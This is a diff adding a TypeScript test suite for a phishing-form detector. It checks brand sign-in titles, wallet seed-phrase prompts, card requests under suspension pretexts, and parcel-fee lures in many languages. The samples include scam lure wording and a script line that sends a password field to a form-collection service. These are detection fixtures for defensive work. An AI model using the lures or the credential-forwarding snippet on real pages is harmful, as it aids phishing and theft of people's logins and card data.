@@ -1,0 +1,124 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
+import { observed, PAGE, slugsOf } from '../../support/detected.ts';
+
+type Fields = ObservationOf<'form'>['facts']['fields'];
+
+describe('§2.5.13 phishing by titles, wallets, parcels and services for forms', () => {
+  const form = (facts: Partial<ObservationOf<'form'>['facts']>) =>
+    observed('form', { fields: ['password'], action_url: `${PAGE}/next`, text: 'Sign in', ...facts });
+  const scriptFile = (text: string) => {
+    return { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text };
+  };
+
+  it('phishing_form is found under the titles that the sign-in pages of brands have', () => {
+    const slugs = (title: string, url = PAGE) => slugsOf({ title, url }, [{ ...form({ text: 'Log in' }), url }]);
+    for (const title of [
+      'Amazon Sign-In',
+      'Amazonサインイン',
+      'Facebook - log in or sign up',
+      'Log into Facebook',
+      'LinkedIn: Log In or Sign Up',
+      'Loggen Sie sich bei PayPal ein',
+      'Connectez-vous à votre compte PayPal',
+      'Steam Community',
+      'DHL Express',
+      'Correios - Pagamento',
+    ])
+      assert.deepEqual(slugs(title), ['phishing_form'], title);
+    for (const title of [
+      'Amazon sellers log in',
+      'Sign-in for Facebook pages by Acme',
+      'Log in or sign up',
+      'Amazonギフト券の店',
+    ])
+      assert.deepEqual(slugs(title), [], title);
+    assert.deepEqual(slugs('Amazon Sign-In', 'https://www.audible.de/ap/signin'), []);
+  });
+
+  it('wallets by which visitors sign in are no phishing_form, and the phrase of one is', () => {
+    const slugs = (text: string, fields: Fields = ['password']) => slugsOf({}, [form({ fields, text })]);
+    for (const text of [
+      'E-mail\nPassword\nor\nTrust Wallet\nMetaMask',
+      'E-mail\nPassword\nTrust Wallet',
+      'E-mail\nPassword\nMetaMask wallet\nCoinbase Wallet',
+    ])
+      assert.deepEqual(slugs(text), [], text);
+    for (const text of ['Enter your Trust Wallet password', 'Your MetaMask wallet\nPassword'])
+      assert.deepEqual(slugs(text), ['phishing_form'], text);
+    assert.deepEqual(slugs('MetaMask wallet\nCoinbase Wallet\nRecovery phrase', ['seed_phrase']), ['phishing_form']);
+  });
+
+  it('a bank that issues cards, and a shop that fills up accounts, are no phishing_form', () => {
+    const slugs = (text: string, fields: Fields) => slugsOf({}, [form({ fields, text })]);
+    assert.deepEqual(
+      slugs('Card portal\nYour Mastercard account\nCard number\nPassword', ['card_number', 'password']),
+      [],
+    );
+    assert.deepEqual(slugs('Your Mastercard account is suspended\nCard number', ['card_number']), ['phishing_form']);
+    assert.deepEqual(slugs('Steam account\nAmount\nCard number', ['identifier', 'card_number']), []);
+    assert.deepEqual(slugs('Your Netflix account is on hold\nCard number', ['card_number']), ['phishing_form']);
+    assert.deepEqual(slugs('Steam account\nPassword', ['password']), ['phishing_form']);
+    assert.deepEqual(slugs('メールアドレス\nパスワード\nAmazonアカウントでお支払い', ['password']), []);
+    assert.deepEqual(slugs('Amazonアカウント\nパスワード', ['password']), ['phishing_form']);
+  });
+
+  it('phishing_form is found for a card under the pretext of a parcel that is held, without the name of a carrier', () => {
+    const asked = (text: string, url = PAGE, fields: Fields = ['card_number']) =>
+      slugsOf({ text, url }, [form({ fields, text: 'Card' })]);
+    const lures = [
+      'Your parcel is on hold. Pay the customs fee of 1.99 € for its delivery.',
+      'Your package could not be delivered. Redelivery fee: $0.30',
+      'Ihr Paket wartet auf die Zustellung. Bitte zahlen Sie die Zollgebühr von 1,99 €.',
+      'Votre colis est en attente de livraison. Frais: 1,99 €',
+      'Su paquete está retenido en la aduana. Tarifa: 2,64 €',
+      'Sua encomenda foi taxada. Pague a taxa para a entrega.',
+      'Il tuo pacco è in giacenza. Spese di consegna: 2 €',
+      'Twoja paczka została wstrzymana. Opłata za dostawę: 1,99 zł',
+      'Ваша посылка задержана. Оплатите доставку.',
+      'Kargonuz beklemede. Teslimat ücreti: 9,90 TL',
+      'お荷物を保留しています。配達の手数料をお支払いください。',
+      'Váš balík byl pozastaven. Poplatek za doručení: 29 Kč',
+      'Gói hàng của bạn đang chờ giao hàng. Phí: 20.000 đ',
+      '您的包裹已滞留，请支付配送费。',
+    ];
+    for (const text of lures) {
+      assert.deepEqual(asked(text), ['phishing_form'], text);
+      assert.deepEqual(asked(text, PAGE, ['phone']), [], text);
+    }
+    const [lure = ''] = lures;
+    for (const url of ['https://www.anpost.com/pay', 'https://www.dhl.de/zoll', 'https://customs.gov.sg/pay'])
+      assert.deepEqual(asked(lure, url), [], url);
+    for (const honest of [
+      'Your parcel will be delivered on Monday. Shipping fee: 4.99 €',
+      'If your parcel is held by customs, a fee may be due on delivery.',
+      'Your package has been suspended. Activation fee: $10 for fast internet.',
+      'Wenn Ihr Paket nicht zugestellt werden kann, fällt eine Gebühr an. Lieferung in 2 Tagen.',
+      'Beware of the scam "Your parcel is on hold, pay a fee for its delivery": fake messages.',
+    ])
+      assert.deepEqual(asked(honest), [], honest);
+  });
+
+  it('phishing_form is found for a phrase that is asked for after a connection that always fails', () => {
+    const asked = form({ fields: ['seed_phrase'], text: '' });
+    for (const text of ['Error connecting...\nConnect manually', 'Migrate your tokens to the new chain'])
+      assert.deepEqual(slugsOf({ text }, [asked]), ['phishing_form'], text);
+    for (const text of [
+      'Import a wallet\nRestore it by its recovery phrase',
+      'Failed to connect to the node\nImport a wallet',
+    ])
+      assert.deepEqual(slugsOf({ text }, [asked]), [], text);
+  });
+
+  it('phishing_form is found for a script that sends secrets to a service for forms, not for a contact form beside a login', () => {
+    const slugs = (code: string) => slugsOf({}, [form({})], { bodies: [scriptFile(code)] });
+    for (const endpoint of ['https://formspree.io/f/abc', 'https://api.web3forms.com/submit']) {
+      assert.deepEqual(slugs(`fetch("${endpoint}",{body:password.value})`), ['phishing_form'], endpoint);
+      assert.deepEqual(slugs(`fetch("${endpoint}",{body:message.value})`), [], endpoint);
+    }
+    const action_url = 'https://api.web3forms.com/submit';
+    assert.deepEqual(slugsOf({}, [form({ action_url })]), ['phishing_form']);
+    assert.deepEqual(slugsOf({}, [form({ action_url, fields: ['phone'] })]), []);
+  });
+});
